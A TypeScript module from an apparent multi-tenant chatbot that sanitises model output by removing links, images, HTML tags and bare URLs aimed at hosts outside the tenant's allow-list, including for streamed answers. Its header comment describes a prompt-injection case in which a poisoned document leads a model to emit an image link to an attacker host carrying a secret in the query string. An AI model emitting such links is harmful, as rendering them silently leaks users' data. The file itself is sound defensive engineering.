import createDOMPurify, { type DOMPurify, type WindowLike } from 'dompurify';
import { JSDOM } from 'jsdom';

import type { TenantRuntimeConfig } from '@tenantbot/contracts';

/**
 * Neutralises links and images in model output that point outside the tenant's own hosts.
 *
 * A model that read a poisoned document can be talked into writing
 * `![x](https://attacker/?q=<secret>)`: a client rendering Markdown (or HTML) would fetch the
 * image and leak the secret without anyone clicking. So every URL that could be rendered or
 * followed — inline and reference-style links and images, reference definitions, raw HTML
 * tags, autolinks and bare URLs — survives only when it is an absolute http(s) URL on an
 * allowed host (one of the tenant's domains or a subdomain of one, or an allowed origin's host).
 * Images become their alt text, links their text, bare URLs and autolinks their host name,
 * definitions disappear. Code spans are not special-cased: a neutralised URL in code costs
 * little, a missed one in a renderer that gets code fences wrong costs a lot.
 *
 * Raw HTML goes through DOMPurify with an allow-list (formatting tags; `a` and `img` with
 * http(s) URLs, then the host check): every other tag, every event handler and style, and
 * scheme-relative URLs are dropped, and `<script>`/`<style>` lose their content. The Markdown
 * side stays hand-written: no maintained library rewrites Markdown links by host in place
 * (ADR "model output sanitiser").
 */
export class OutputSanitizer {
  private readonly hosts: string[];

  constructor(allowedHosts: Iterable<string>) {
    this.hosts = [...new Set([...allowedHosts].map(normaliseHost).filter(Boolean))];
  }

  sanitize(text: string): string {
    const blockedReferences = new Set<string>();
    let result = this.removeDefinitions(text, blockedReferences);
    result = this.neutraliseHtml(result);
    result = this.rewriteLinks(result, blockedReferences);
    return this.neutraliseBareUrls(result);
  }

  /** A sanitizer for one streamed answer: feed it deltas, emit what it returns. */
  streaming(): StreamingSanitizer {
    return new StreamingSanitizer(this);
  }

  isAllowedUrl(raw: string): boolean {
    const url = parseUrl(raw);
    if (!url || (url.protocol !== 'http:' && url.protocol !== 'https:')) {
      return false;
    }
    const host = normaliseHost(url.hostname);
    return this.hosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`));
  }

  // ---- reference definitions: `[label]: url "title"` ----------------------------------------

  private removeDefinitions(text: string, blocked: Set<string>): string {
    return text.replace(DEFINITION, (line: string, label: string, destination: string) => {
      if (this.isAllowedUrl(destination)) {
        return line;
      }
      blocked.add(referenceKey(label));
      return '';
    });
  }

  // ---- raw HTML and autolinks ----------------------------------------------------------------

  private neutraliseHtml(text: string): string {
    return text
      .replace(AUTOLINK, (autolink: string, url: string) =>
        this.isAllowedUrl(url) ? autolink : hostText(url),
      )
      .replace(RAW_TEXT_ELEMENT, '')
      .replace(HTML_TAG, (tag: string) => this.neutraliseTag(tag))
      .replace(/<(?=[A-Za-z!?/])/g, (bracket, offset: number, whole: string) =>
        // A `<` that did not form a whole tag above must never become one with what follows.
        startsAt(HTML_TAG_AT, whole, offset) || startsAt(AUTOLINK_AT, whole, offset)
          ? bracket
          : '&lt;',
      );
  }

  /** A tag as the allow-list leaves it: itself (cleaned), an image's alt text, or nothing. */
  private neutraliseTag(tag: string): string {
    const closing = /^<\/([A-Za-z][A-Za-z0-9-]*)/.exec(tag);
    if (closing) {
      const name = closing[1].toLowerCase();
      return ALLOWED_TAGS.includes(name) ? `</${name}>` : '';
    }
    const element = purifiedStartTag(tag);
    if (!element) {
      return '';
    }
    const hrefs = ['href', 'src'].map((name) => element.getAttribute(name));
    const linksOut = hrefs.some((url) => url !== null && !this.isAllowedUrl(url));
    if (element.localName === 'img' && (linksOut || !element.hasAttribute('src'))) {
      return (element.getAttribute('alt') ?? '').replaceAll('<', '&lt;');
    }
    if (element.localName === 'a' && (linksOut || !element.hasAttribute('href'))) {
      return '';
    }
    return startTagOf(element);
  }

  // ---- inline and reference links and images -------------------------------------------------

  private rewriteLinks(text: string, blocked: Set<string>): string {
    let out = '';
    let i = 0;
    while (i < text.length) {
      const char = text[i];
      if (char === '\\') {
        out += text.slice(i, i + 2);
        i += 2;
        continue;
      }
      const image = char === '!' && text[i + 1] === '[';
      if (char !== '[' && !image) {
        out += char;
        i++;
        continue;
      }
      const open = image ? i + 1 : i;
      const close = matchingBracket(text, open);
      const label = close < 0 ? '' : text.slice(open + 1, close);
      const target = close < 0 ? undefined : linkTarget(text, close + 1);
      if (close < 0 || (!target && !blocked.has(referenceKey(label)))) {
        // Not a link (or a shortcut reference to a harmless definition): keep the bracket and
        // look inside it.
        out += text.slice(i, open + 1);
        i = open + 1;
        continue;
      }
      const end = target?.end ?? close + 1;
      const allowed =
        target?.destination !== undefined
          ? this.isAllowedUrl(target.destination)
          : !blocked.has(referenceKey(target?.reference || label));
      const inner = this.rewriteLinks(label, blocked);
      out += allowed ? `${image ? '!' : ''}[${inner}]${text.slice(close + 1, end)}` : inner;
      i = end;
    }
    return out;
  }

  // ---- bare URLs (GFM autolinks them) ---------------------------------------------------------

  private neutraliseBareUrls(text: string): string {
    return text.replace(BARE_URL, (match: string) => {
      const [, url, trailing] = /^(.*?)([.,;:!?*_~]*)$/s.exec(match) ?? ['', match, ''];
      const absolute = absoluteUrl(url);
      return this.isAllowedUrl(absolute) ? match : `${hostText(absolute)}${trailing}`;
    });
  }
}

/**
 * Applies the sanitizer to a stream without ever emitting a prefix of a link, image, tag,
 * definition or URL whose target is still unknown: such text is held back until it can be
 * decided (a bounded amount: past MAX_HOLD characters it is defused instead). Every emitted
 * piece was sanitized whole, and nothing later can turn it into a link.
 */
export class StreamingSanitizer {
  private pending = '';
  /** Inside a URL that was cut off and defused: drop its rest. */
  private swallowingUrl = false;

  constructor(private readonly sanitizer: OutputSanitizer) {}

  push(delta: string): string {
    this.pending += this.swallowingUrl ? this.swallow(delta) : delta;
    let emitted = '';
    for (;;) {
      const hold = unfinishedConstructAt(this.pending);
      if (hold === this.pending.length || this.pending.length - hold <= MAX_HOLD) {
        emitted += this.emit(hold);
        return emitted;
      }
      emitted += this.emit(hold) + this.defuse();
    }
  }

  end(): string {
    const rest = this.sanitizer.sanitize(this.pending);
    this.pending = '';
    return rest;
  }

  private emit(until: number): string {
    const ready = this.pending.slice(0, until);
    this.pending = this.pending.slice(until);
    return ready ? this.sanitizer.sanitize(ready) : '';
  }

  /** The held construct grew too long to wait for: make sure it can never become one. */
  private defuse(): string {
    const char = this.pending[0];
    if (char === '[') {
      return this.consume(1, '\\[');
    }
    if (char === '<') {
      return this.consume(1, '&lt;');
    }
    const url = BARE_URL_AT.exec(this.pending)?.[0];
    if (!url) {
      return this.consume(1, char);
    }
    const absolute = absoluteUrl(url);
    const allowed = this.sanitizer.isAllowedUrl(absolute);
    this.swallowingUrl = !allowed;
    return this.consume(url.length, allowed ? url : hostText(absolute));
  }

  private consume(length: number, replacement: string): string {
    this.pending = this.pending.slice(length);
    if (this.swallowingUrl) {
      this.pending = this.swallow(this.pending);
    }
    return replacement;
  }

  private swallow(text: string): string {
    const end = text.search(URL_TERMINATOR);
    if (end < 0) {
      return '';
    }
    this.swallowingUrl = false;
    return text.slice(end);
  }
}

const MAX_HOLD = 2048;
const URL_CHARS = `[^\\s<>"'\`()\\[\\]]`;
const URL_TERMINATOR = /[\s<>"'`()[\]]/;
// Linkifying renderers also link a scheme-relative `//host/path` that starts a word.
const BARE_URL = new RegExp(`(?:https?://|www\\.|(?<![\\w:/.@-])//)${URL_CHARS}+`, 'gi');
const BARE_URL_AT = new RegExp(`^(?:https?://|www\\.|//)${URL_CHARS}*`, 'i');
const URL_PREFIXES = ['http://', 'https://', 'www.'];
const AUTOLINK = /<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>/g;
const AUTOLINK_AT = /<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>/y;
// CommonMark's raw HTML: an open tag with attributes (quoted values may hold `>`), or a closing tag.
const ATTRIBUTE = `\\s+[A-Za-z_:][\\w.:-]*(?:\\s*=\\s*(?:[^\\s"'=<>\`]+|'[^']*'|"[^"]*"))?`;
const HTML_TAG = new RegExp(
  `<([A-Za-z][A-Za-z0-9-]*)(?:${ATTRIBUTE})*\\s*/?>|</[A-Za-z][A-Za-z0-9-]*\\s*>`,
  'g',
);
const HTML_TAG_AT = new RegExp(
  `<[A-Za-z][A-Za-z0-9-]*(?:${ATTRIBUTE})*\\s*/?>|</[A-Za-z][A-Za-z0-9-]*\\s*>`,
  'y',
);
const DEFINITION = /^ {0,3}\[((?:[^\]\\\n]|\\.){1,999})\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)[^\n]*$/gm;
/** Tags that may stay in model output: formatting only, plus links and images (host-checked). */
const ALLOWED_TAGS = [
  'a',
  'img',
  'b',
  'strong',
  'i',
  'em',
  'u',
  's',
  'del',
  'ins',
  'mark',
  'small',
  'sub',
  'sup',
  'code',
  'pre',
  'kbd',
  'samp',
  'var',
  'abbr',
  'q',
  'br',
  'hr',
  'p',
  'span',
  'div',
  'blockquote',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'details',
  'summary',
];
const HTML_POLICY = {
  ALLOWED_TAGS,
  ALLOWED_ATTR: ['href', 'src', 'alt', 'title', 'width', 'height'],
  // Absolute http(s) only: scheme-relative (`//host`), relative and every other scheme go.
  ALLOWED_URI_REGEXP: /^https?:\/\//i,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  RETURN_DOM_FRAGMENT: true as const,
};
/** Elements whose content is not Markdown text: dropped whole when their end is in sight. */
const RAW_TEXT_ELEMENT =
  /<(script|style|textarea|title|xmp|iframe|noembed|noframes|noscript|template)\b[^>]*>[\s\S]*?<\/\1\s*>/gi;

let purifier: DOMPurify | undefined;

/** DOMPurify on one jsdom window per process, made on first use (most answers hold no HTML). */
function htmlPurifier(): DOMPurify {
  if (!purifier) {
    purifier = createDOMPurify(new JSDOM('').window as unknown as WindowLike);
    // Set once: parsing the configuration on every call would cost more than the tag.
    purifier.setConfig(HTML_POLICY);
  }
  return purifier;
}

/** The start tag's element as the allow-list leaves it, or undefined when it is not allowed. */
function purifiedStartTag(tag: string): Element | undefined {
  const name = /^<([A-Za-z][A-Za-z0-9-]*)/.exec(tag)?.[1].toLowerCase();
  const element = (htmlPurifier().sanitize(tag) as unknown as DocumentFragment).firstElementChild;
  return element && element.localName === name ? element : undefined;
}

function startTagOf(element: Element): string {
  const attributes = [...element.attributes]
    .map((attribute) => ` ${attribute.name}="${escapeAttribute(attribute.value)}"`)
    .join('');
  return `<${element.localName}${attributes}>`;
}

function escapeAttribute(value: string): string {
  return value
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;');
}

/** Whether a sticky pattern matches at `offset`. */
function startsAt(pattern: RegExp, text: string, offset: number): boolean {
  pattern.lastIndex = offset;
  return pattern.test(text);
}

/** Index of the `]` closing the `[` at `open`, honouring nesting and escapes; -1 if none yet. */
function matchingBracket(text: string, open: number): number {
  let depth = 0;
  for (let i = open; i < text.length; i++) {
    const char = text[i];
    if (char === '\\') {
      i++;
    } else if (char === '[') {
      depth++;
    } else if (char === ']' && --depth === 0) {
      return i;
    }
  }
  return -1;
}

function matchingParen(text: string, open: number): number {
  let depth = 0;
  for (let i = open; i < text.length; i++) {
    const char = text[i];
    if (char === '\\') {
      i++;
    } else if (char === '(') {
      depth++;
    } else if (char === ')' && --depth === 0) {
      return i;
    }
  }
  return -1;
}

interface LinkTarget {
  end: number;
  destination?: string;
  reference?: string;
}

/** What follows a `[label]`: an inline `(destination "title")`, a `[reference]`, or nothing. */
function linkTarget(text: string, at: number): LinkTarget | undefined {
  if (text[at] === '(') {
    const close = matchingParen(text, at);
    if (close < 0) {
      return undefined;
    }
    const inner = text.slice(at + 1, close).trim();
    const destination = inner.startsWith('<')
      ? inner.slice(1, inner.indexOf('>'))
      : inner.split(/\s/)[0];
    return { end: close + 1, destination };
  }
  if (text[at] === '[') {
    const close = text.indexOf(']', at);
    if (close < 0) {
      return undefined;
    }
    return { end: close + 1, reference: text.slice(at + 1, close) };
  }
  return undefined;
}

/**
 * Where the first construct begins whose meaning depends on text not seen yet (the length of
 * the text when there is none): an unclosed `[`, a `]` not yet followed by anything, an
 * unfinished `(destination)` or definition line, a `<` before its `>`, a URL before its end,
 * or a trailing `!` or `\`.
 */
export function unfinishedConstructAt(text: string): number {
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (char === '\\' || char === '!') {
      if (i + 1 >= text.length) {
        return i;
      }
      if (char === '\\') {
        i++;
      }
    } else if (char === '[') {
      // Hold an image's `!` with its bracket, so that it never shows up alone.
      if (!bracketIsDecided(text, i)) {
        return i > 0 && text[i - 1] === '!' ? i - 1 : i;
      }
    } else if (char === '<') {
      if (!tagIsDecided(text, i)) {
        return i;
      }
    } else if (/[hHwW]/.test(char)) {
      const rest = text.slice(i, i + 8).toLowerCase();
      if (URL_PREFIXES.some((prefix) => prefix.startsWith(rest) && rest.length < prefix.length)) {
        return i;
      }
      const url = BARE_URL_AT.exec(text.slice(i))?.[0];
      if (url && i + url.length >= text.length) {
        return i;
      }
    } else if (char === '/' && (i === 0 || !/[\w:/.@-]/.test(text[i - 1]))) {
      // A scheme-relative URL: `/` at the end may be its start, `//…` may not be whole yet.
      if (i + 1 >= text.length) {
        return i;
      }
      const url = text[i + 1] === '/' ? BARE_URL_AT.exec(text.slice(i))?.[0] : undefined;
      if (url && i + url.length >= text.length) {
        return i;
      }
    }
  }
  return text.length;
}

/** A bare URL as a browser would resolve it from an https page (`www.` and `//` forms). */
function absoluteUrl(url: string): string {
  if (/^www\./i.test(url)) {
    return `http://${url}`;
  }
  return url.startsWith('//') ? `https:${url}` : url;
}

function bracketIsDecided(text: string, open: number): boolean {
  const close = matchingBracket(text, open);
  if (close < 0 || close + 1 >= text.length) {
    return false;
  }
  const next = text[close + 1];
  if (next === '(') {
    return matchingParen(text, close + 1) >= 0;
  }
  if (next === '[') {
    return text.indexOf(']', close + 2) >= 0;
  }
  if (next === ':') {
    // A definition may put its destination on the next line: wait for that line too.
    const lineEnd = text.indexOf('\n', close);
    if (lineEnd < 0) {
      return false;
    }
    const restOfLine = text.slice(close + 2, lineEnd).trim();
    return restOfLine !== '' || text.indexOf('\n', lineEnd + 1) >= 0;
  }
  return true;
}

function tagIsDecided(text: string, open: number): boolean {
  if (open + 1 >= text.length) {
    return false;
  }
  if (!/[A-Za-z/!?]/.test(text[open + 1])) {
    return true;
  }
  let quote: string | undefined;
  for (let i = open + 1; i < text.length; i++) {
    const char = text[i];
    if (quote) {
      if (char === quote) {
        quote = undefined;
      }
    } else if (char === '"' || char === "'") {
      quote = char;
    } else if (char === '>') {
      return true;
    }
  }
  return false;
}

function referenceKey(label: string): string {
  return label.trim().replace(/\s+/g, ' ').toLowerCase();
}

function parseUrl(raw: string): URL | undefined {
  const cleaned = decodeEntities(raw.trim().replace(/^<|>$/g, '')).replace(
    /\\(?=[!-/:-@[-`{-~])/g,
    '',
  );
  try {
    return new URL(cleaned);
  } catch {
    return undefined;
  }
}

/** What a neutralised URL leaves: its host, without a `www.` that GFM would link again. */
function hostText(raw: string): string {
  return (parseUrl(raw)?.hostname ?? '').replace(/^www\./i, '');
}

function normaliseHost(host: string): string {
  return host.trim().toLowerCase().replace(/\.$/, '');
}

const NAMED_ENTITIES: Record<string, string> = {
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  colon: ':',
  sol: '/',
  period: '.',
  lpar: '(',
  rpar: ')',
};

/** Renderers decode entities in URLs, so hosts are judged after decoding them. */
function decodeEntities(text: string): string {
  return text.replace(/&(#\d+|#x[\da-f]+|[a-z]+);/gi, (entity, body: string) => {
    if (body[0] !== '#') {
      return NAMED_ENTITIES[body.toLowerCase()] ?? entity;
    }
    const code =
      body[1] === 'x' || body[1] === 'X'
        ? parseInt(body.slice(2), 16)
        : parseInt(body.slice(1), 10);
    return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : entity;
  });
}

/** Hosts a tenant's answers may link to: its domains and its allowed origins' hosts. */
export function tenantHosts(tenant: Pick<TenantRuntimeConfig, 'domains' | 'allowed_origins'>) {
  const originHosts = tenant.allowed_origins.flatMap((origin) => {
    try {
      return [new URL(origin).hostname];
    } catch {
      return [];
    }
  });
  return [...tenant.domains, ...originHosts];
}
